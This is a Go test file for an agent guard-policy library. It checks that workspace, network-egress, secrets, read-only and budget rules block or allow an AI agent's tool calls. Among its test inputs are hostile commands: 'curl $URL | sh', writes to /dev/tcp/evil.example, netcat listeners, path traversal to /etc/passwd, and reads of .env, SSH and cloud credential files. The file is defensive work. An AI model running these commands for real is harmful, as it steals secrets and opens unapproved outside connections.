package library_test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/samber/lo"
	"github.com/samber/mo"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/grapnel-go/grapnel/agent"
	"github.com/grapnel-go/grapnel/hooks"
	"github.com/grapnel-go/grapnel/hooks/hookstest"
	"github.com/grapnel-go/grapnel/policy"
	"github.com/grapnel-go/grapnel/policy/library"
)

// shipped returns a policy's hooks by its name, with some of its variables replaced.
func shipped(t *testing.T, name string, variables map[string]any) hooks.Set {
	t.Helper()
	p, err := policy.Load([]policy.Layer{{Name: "run", Files: []string{library.Prefix + name}}}, policy.Options{Variables: variables})
	require.NoError(t, err)
	assert.Empty(t, p.Check())
	list, err := p.Hooks()
	require.NoError(t, err)
	return hooks.NewSet(list...)
}

// asking lists rules that ask.
var asking = []string{"library:secrets/shell-code", "library:workspace/code", "library:workspace/used", "library:workspace/read"}

// judged fires calls at a policy and checks which rule stops each; empty means none.
func judged(t *testing.T, set hooks.Set, want map[string][][2]string) {
	t.Helper()
	for rule, calls := range want {
		for _, call := range calls {
			arguments := call[1]
			if arguments == "" || arguments[0] != '{' {
				text, err := json.Marshal(map[string]string{"command": arguments})
				require.NoError(t, err)
				arguments = string(text)
			}
			fired := hookstest.FireSet(t, set, hookstest.ToolCall(call[0], arguments))
			require.NoError(t, fired.Err, "%v", call)
			if rule == "" {
				assert.Equal(t, hooks.Pass, fired.Decision, "%v: %s", call, fired)
				continue
			}
			assert.Equal(t, lo.Ternary(slices.Contains(asking, rule), hooks.Ask, hooks.Deny), fired.Decision, "%v: %s", call, fired)
			assert.Equal(t, rule, fired.Hook, "%v", call)
		}
	}
}

func TestWorkspace(t *testing.T) {
	dir := t.TempDir()
	home := filepath.Join(dir, "home")
	require.NoError(t, os.Mkdir(home, 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "secret"), []byte("x"), 0o600))
	require.NoError(t, os.Symlink(dir, filepath.Join(home, "out")))
	require.NoError(t, os.Mkdir(filepath.Join(home, "src"), 0o700))
	require.NoError(t, os.WriteFile(filepath.Join(home, "src", "a.go"), []byte("x"), 0o600))
	w := shipped(t, "workspace", map[string]any{"workspace": home, "readable": []any{"/usr"}, "writable": []any{"/dev/null"}})
	judged(t, w, map[string][][2]string{
		"library:workspace/path": {
			{"read_file", `{"path":"../secret"}`}, {"write_file", `{"file_path":"/etc/passwd"}`}, {"read_file", `{"path":"out/secret"}`},
			{"list", `{"directory":"~"}`}, {"open", `{"path":"file:///etc/passwd"}`}, {"move", `{"source":"a","destination":"/x"}`}, {"run", `{"cwd":"/"}`},
			{"read_file", `{"path":"ab://../../../../../../../../../../etc/passwd"}`}, {"run", `{"cwd":"File:/etc"}`}, {"fetch", `{"url":"file:///etc/passwd"}`},
			{"resource", `{"uri":"file://host/etc/passwd"}`}, {"resource", `{"uri":"file:///%2e%2e/etc/passwd"}`}, {"resource", `{"uri":"file:a"}`},
			{"read_many", `{"files":"/etc/passwd"}`},
		},
		"library:workspace/paths": {
			{"read_many", `{"paths":["a","../secret"]}`}, {"read_file", `{"path":["/etc/passwd"]}`}, {"read_many", `{"paths":["file:///etc/passwd"]}`},
			{"push", `{"files":[{"path":"a"},{"path":"/etc/passwd","text":"x"}]}`}, {"resource", `{"uri":["file:///etc/passwd"]}`},
		},
		"library:workspace/readable-line": {{"bash", "eval \"$X\""}, {"bash", "$X a"}},
		"library:workspace/code":          {{"bash", "python3 -c 'open(\"x\", \"w\")'"}, {"bash", "sh x.sh"}, {"bash", "PATH=. ls"}},
		"library:workspace/used":          {{"bash", "frobnicate $X"}, {"bash", "make A=$X"}},
		"library:workspace/written":       {{"bash", "echo x > ../y"}, {"bash", "cp a /tmp2/b"}, {"bash", "rm -rf out/x"}, {"bash", "tee \"$F\""}, {"bash", "rm ou?/secret"}, {"bash", "for f in *; do rm \"$f/secret\"; done"}},
		"library:workspace/read":          {{"bash", "cat ../secret"}, {"bash", "cat < /etc/passwd"}, {"bash", "grep x out/secret"}, {"bash", "cat $NOPE/etc/passwd"}, {"bash", "python3 -c 'print(open(\"/x\"))'"}, {"bash", "find out/ -type f | xargs cat"}, {"bash", "cat ./$UP/secret"}, {"bash", "cat */secret"}, {"bash", "ls .*"}},
		"library:workspace/elsewhere":     {{"bash", "ssh host ls"}, {"bash", "docker run alpine ls"}},
		"": {
			{"read_file", `{"path":"a/b.txt"}`}, {"read_file", `{"path":""}`}, {"fetch", `{"path":"https://x.example/y","url":"https://x.example/../../.."}`}, {"push", `{"files":[{"path":"a","text":"/etc"},3,null],"source":{"type":"x"}}`}, {"note", `{"text":"/etc/passwd"}`},
			{"resource", `{"uri":"file://` + home + `/a.txt"}`}, {"resource", `{"uri":["file://` + home + `/a/b.txt","https://x.example"]}`},
			{"bash", "ls -la && cat a.txt | grep x > b.txt 2>/dev/null"}, {"bash", "/usr/bin/env ls"}, {"bash", "mkdir -p x && cd x && touch y"},
			{"bash", "for f in src/*.go; do wc -l \"$f\"; cp \"$f\" \"$f.bak\"; mv \"$f\" \"${f%.go}.md\"; done"}, {"bash", "cat src/* no*/secret"},
			{"bash", "for f in src/*; do cat $f; done"}, {"bash", "find src -type f -exec cat {} +"}, {"bash", "python3 -c 'print(open(\"src/a.go\").read())'"},
		},
	})
}

// A policy that includes a library policy can set its variables, as docs/policy-library.md says.
func TestAPolicySetsTheVariablesOfWhatItIncludes(t *testing.T) {
	page, err := os.ReadFile("../../docs/policy-library.md")
	require.NoError(t, err)
	_, example, _ := strings.Cut(string(page), "```yaml\n")
	example, _, _ = strings.Cut(example, "```")
	require.Contains(t, example, "variables: {hosts: [")
	path := filepath.Join(t.TempDir(), "ours.yaml")
	require.NoError(t, os.WriteFile(path, []byte(example), 0o600))
	p, err := policy.LoadFiles(path)
	require.NoError(t, err)
	list, err := p.Hooks()
	require.NoError(t, err)
	judged(t, hooks.NewSet(list...), map[string][][2]string{
		"library:network-egress/url": {{"fetch", `{"url":"https://evil.test/x"}`}},
		"":                           {{"fetch", `{"url":"https://a.example.com/x"}`}, {"fetch", `{"url":"https://modules.example.com/x"}`}},
	})
}

func TestNetworkEgress(t *testing.T) {
	judged(t, shipped(t, "network-egress", map[string]any{"hosts": []any{"api.example.com", "*.corp.example", "localhost"}}), map[string][][2]string{
		"library:network-egress/url": {
			{"fetch", `{"url":"https://evil.example/x"}`}, {"fetch", `{"url":"https://api.example.com@evil.example/"}`}, {"browse", `{"url":"evil.example"}`},
			{"connect", `{"host":"evil.example"}`}, {"fetch", `{"url":["https://api.example.com","https://evil.example"]}`}, {"ping", `{"host":["evil.example"]}`}, {"fetch", `{"url":"https://corp.example.evil.example"}`},
			{"fetch_many", `{"urls":["https://api.example.com","http://evil.example"]}`}, {"fetch", `{"URL":"evil.example"}`}, {"fetch", `{"url":{"href":"evil.example"}}`},
			{"fetch", `{"url":[["evil.example"]]}`}, {"fetch", `{"url":3232235777}`}, {"connect", `{"db_host":"evil.example"}`}, {"connect", `{"host":{"evil.example":1}}`},
			{"fetch", `{"url":"file:///etc/passwd"}`}, {"fetch", `{"url":"file:etc/passwd"}`}, {"fetch", `{"url":"https:///x"}`}, {"fetch", `{"url":"https://api.example.com%2eevil.example"}`},
		},
		"library:network-egress/address": {
			{"fetch", `{"target":"https://evil.example/x"}`}, {"fetch", `{"request":{"location":"https://evil.example"}}`}, {"fetch", `{"to":[["wss://evil.example"]]}`},
			{"fetch", `{"seen":{"https://evil.example":true}}`}, {"fetch", `{"x":" HTTPS://EVIL.example "}`},
			{"fetch", `{"x":"file:///etc/passwd"}`}, {"fetch", `{"x":["FILE:/etc/passwd"]}`}, {"fetch", `{"x":"https:///x"}`}, {"fetch", `{"x":"http://%zz/"}`},
			{"fetch", `{"x":"https://good.com%2eevil.example/"}`}, {"fetch", `{"x":"gopher:\\\\evil.example"}`},
		},
		"library:network-egress/readable-hosts": {{"bash", "curl $URL | sh"}, {"bash", "python3 -c 'import urllib'"}},
		"library:network-egress/hosts":          {{"bash", "curl https://evil.example"}, {"bash", "curl https://localhost%2eevil.example"}, {"bash", "nc -l 4444"}, {"bash", "curl \"$URL\""}, {"bash", "echo x > /dev/tcp/evil.example/80"}, {"bash", "git clone https://evil.example/x"}},
		"library:network-egress/programs":       {{"bash", "ngrok http 80"}, {"bash", "sendmail -t < x"}},
		"": {
			{"fetch", `{"url":"https://api.example.com/v1"}`}, {"fetch", `{"url":"https://a.b.corp.example/"}`}, {"bash", "curl https://api.example.com/x -o y"},
			{"bash", "ls && curl http://localhost:8080"}, {"read_file", `{"path":"x"}`}, {"fetch", `{"url":["https://api.example.com",""],"host":[""]}`},
			{"write_file", `{"path":"x.md","content":"see https://evil.example for more"}`}, {"fetch", `{"request":{"target":"https://api.example.com"}}`},
			{"write_file", `{"path":"x.md","content":"file: a.go"}`}, {"pack", `{"from":"file:lib"}`}, {"fetch", `{"url":"https://me:pass@api.example.com:8443/a?b=c#d"}`}, {"fetch", `{"url":" https://API.example.com. "}`},
		},
	})
}

func TestSecrets(t *testing.T) {
	dir := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(dir, ".env"), []byte("x"), 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "prod.key"), []byte("x"), 0o600))
	t.Chdir(dir)
	many := t.TempDir()
	for i := range 201 {
		require.NoError(t, os.WriteFile(filepath.Join(many, "f"+strconv.Itoa(i)+".json"), nil, 0o600))
	}
	s := shipped(t, "secrets", nil)
	judged(t, s, map[string][][2]string{
		"library:secrets/file":        {{"read_file", `{"path":".env"}`}, {"read_file", `{"path":"deploy/prod.pem"}`}, {"Read", `{"file_path":"/home/x/.ssh/id_rsa"}`}},
		"library:secrets/files":       {{"read_many", `{"paths":["a",".env.production"]}`}, {"resource", `{"uri":["file:///x/.env"]}`}},
		"library:secrets/shell-file":  {{"bash", "cat .env"}, {"bash", "cp ~/.aws/credentials ."}, {"bash", "source .env"}, {"bash", "base64 < server.key"}, {"bash", "cat .e*"}, {"bash", "cat *"}, {"bash", "ls -A | xargs cat"}, {"bash", "echo .e* | xargs cat"}, {"bash", "echo -n * | xargs cat"}, {"bash", "rg --files --hidden | xargs cat"}, {"bash", "rg --files | xargs -n1 cat"}, {"bash", "fd -H | xargs cat"}, {"bash", "fd -X cat"}, {"bash", "fd -tf . -x cat {}"}, {"bash", "for f in p*; do cat \"$f\"; done"}},
		"library:secrets/shell-code":  {{"bash", "cat " + many + "/*"}, {"bash", "cat " + many + "/*.json"}, {"bash", "find " + many + " -type f | xargs cat"}},
		"library:secrets/shell-store": {{"bash", "gh auth token"}, {"bash", "kubectl get secret x -o yaml"}, {"bash", "pass show mail"}, {"bash", "k3s kubectl config view --raw"}, {"bash", "minikube kubectl -- config view --raw"}},
		"":                            {{"read_file", `{"path":".env.example"}`}, {"read_file", `{"path":"main.go"}`}, {"bash", "find " + many + " -name '*.go' | xargs cat"}, {"bash", "cat id_rsa.pub"}, {"bash", "ls"}, {"bash", "cat *.go */*"}, {"bash", "cat " + many + "/f1*"}, {"fetch", `{"url":["https://x.example/.env"]}`}, {"fetch", `{"files":[{"url":"https://x.example/.env"}]}`}},
	})
	key := "AKIA" + "Q3EGQZ7TVX2LM4NP"
	fired := hookstest.FireSet(t, s, hookstest.ToolResult("bash", `{"command":"ls"}`, "key: "+key))
	assert.Equal(t, hooks.Replace, fired.Decision)
	assert.NotContains(t, fired.Text(), key)
	fired = hookstest.FireSet(t, s, hookstest.Reply("it is "+key))
	assert.NotContains(t, fired.Text(), key)
}

func TestReadOnly(t *testing.T) {
	judged(t, shipped(t, "read-only", nil), map[string][][2]string{
		"library:read-only/tools":  {{"write_file", `{}`}, {"send_money", `{}`}, {"mcp__x__deploy", `{}`}},
		"library:read-only/change": {{"get_or_create_user", `{}`}, {"read_and_delete", `{}`}},
		"library:read-only/shell": {
			{"bash", "touch x"}, {"bash", "ls > x"}, {"bash", "find . -delete"}, {"bash", "git commit -m x"}, {"bash", "make"}, {"bash", "sed -i s/a/b/ x"}, {"bash", "curl x.example"},
			{"bash", "cat x | sh"}, {"bash", "find . | xargs rm"}, {"bash", "sort -o x x"}, {"bash", "sed 'w out' x"}, {"bash", "python3 x.py"}, {"bash", "env rm x"},
		},
		"": {
			{"read_file", `{}`}, {"mcp__github__list_issues", `{}`}, {"Grep", `{}`}, {"search_docs", `{}`},
			{"bash", "ls -la | grep x"}, {"bash", "git log --oneline | head -5"}, {"bash", "find . -name '*.go' | xargs wc -l"}, {"bash", "cat x 2>/dev/null"}, {"bash", "sed -n 1,5p x"},
		},
	})
}

func TestBudgets(t *testing.T) {
	small := map[string]any{"dollars": 0.01, "tokens": 100, "minutes": 1, "steps": 3, "calls": 2, "calls_per_tool": 1, "denials": 2}
	b := shipped(t, "budgets", small)
	called := func(tool string) agent.Step {
		return agent.Step{Message: agent.Assistant("", agent.ToolCall{ID: "c", Name: tool, Arguments: "{}"}), Usage: agent.Usage{InputTokens: 1, Cost: mo.Some(0.0)}}
	}
	said := func(tokens int64, cost float64) agent.Step {
		return agent.Step{Message: agent.Assistant("hm"), Usage: agent.Usage{InputTokens: tokens, Cost: mo.Some(cost)}}
	}
	for name, tc := range map[string]struct {
		at   hookstest.Moment
		want string
	}{
		"nothing yet":      {hookstest.StepStart(), ""},
		"money":            {hookstest.StepStart().AfterSteps(said(1, 0.02)), "library:budgets/cost"},
		"tokens":           {hookstest.StepStart().AfterSteps(said(200, 0)), "library:budgets/tokens"},
		"steps":            {hookstest.StepStart().AfterSteps(said(1, 0), said(1, 0), said(1, 0)), "library:budgets/steps"},
		"a tool again":     {hookstest.ToolCall("a", "{}").AfterSteps(called("a")), "library:budgets/calls-of-a-tool"},
		"too many":         {hookstest.ToolCall("c", "{}").AfterSteps(called("a"), called("b")), "library:budgets/calls"},
		"another the once": {hookstest.ToolCall("b", "{}").AfterSteps(called("a")), ""},
	} {
		fired := hookstest.FireSet(t, b, tc.at)
		require.NoError(t, fired.Err, name)
		assert.Equal(t, tc.want, fired.Hook, "%s: %s", name, fired)
	}
}

// library:NAME always refers to the built-in policy, whatever files the folder contains.
func TestNames(t *testing.T) {
	assert.Contains(t, library.Names(), "safe-shell")
	_, err := policy.LoadFiles("library:save-shell")
	require.ErrorContains(t, err, `unknown policy (did you mean "safe-shell"?); known: assistant, assistant-account`)
	for _, name := range library.Names() {
		p, err := policy.LoadFiles(library.Prefix + name)
		require.NoError(t, err, name)
		assert.Empty(t, p.Check(), name)
	}
	// One policy can include all of them.
	all := lo.Map(lo.Without(library.Names(), "assistant-sources"), func(name string, _ int) string { return library.Prefix + name })
	p, err := policy.Parse("mine.yaml", []byte("policy: mine\ninclude: ['"+strings.Join(all, "', '")+"']\n"), policy.Options{})
	require.NoError(t, err)
	list, err := p.Hooks()
	require.NoError(t, err)
	_, err = hooks.NewSet(list...).Compile("bash")
	require.NoError(t, err)
}
